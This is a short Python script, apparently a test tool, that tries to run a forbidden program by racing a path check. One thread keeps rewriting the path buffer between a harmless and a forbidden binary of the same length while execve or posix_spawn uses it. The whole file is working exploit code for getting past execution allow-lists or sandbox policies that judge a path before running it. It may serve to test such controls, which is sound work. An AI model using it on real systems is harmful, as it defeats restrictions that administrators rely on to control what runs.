"""Try to execute a forbidden program by a race: another thread changes the path after it was judged.

    python racer.py threads|vfork ATTEMPTS HARMLESS FORBIDDEN

Both paths have the same length. `threads`: a process whose second thread changes the path while the first executes.
`vfork`: a thread of the parent changes the path that a child executes, which shares the parent's memory.
"""

import ctypes
import os
import sys
import threading

libc = ctypes.CDLL(None)


def flip(path: "ctypes.Array[ctypes.c_char]", one: bytes, other: bytes) -> None:
    at = next(place for place in range(len(one)) if one[place] != other[place])
    move, target = ctypes.memmove, ctypes.addressof(path) + at
    first, second, size = one[at:], other[at:], len(one) - at
    while True:
        move(target, second, size)
        move(target, first, size)


def main() -> None:
    kind, attempts, harmless, forbidden = sys.argv[1], int(sys.argv[2]), *map(os.fsencode, sys.argv[3:])
    assert len(harmless) == len(forbidden)
    path = ctypes.create_string_buffer(harmless)
    argv = (ctypes.c_char_p * 3)(b"x", b"y", None)
    env = (ctypes.c_char_p * 1)(None)
    if kind == "vfork":
        threading.Thread(target=flip, args=(path, harmless, forbidden), daemon=True).start()
        for _ in range(attempts):
            pid = ctypes.c_int()
            if libc.posix_spawn(ctypes.byref(pid), path, None, None, argv, env) == 0:
                os.waitpid(pid.value, 0)
        os._exit(0)
    for _ in range(attempts):
        child = os.fork()
        if child == 0:
            threading.Thread(target=flip, args=(path, harmless, forbidden), daemon=True).start()
            libc.execve(path, argv, env)
            os._exit(1)
        os.waitpid(child, 0)


main()
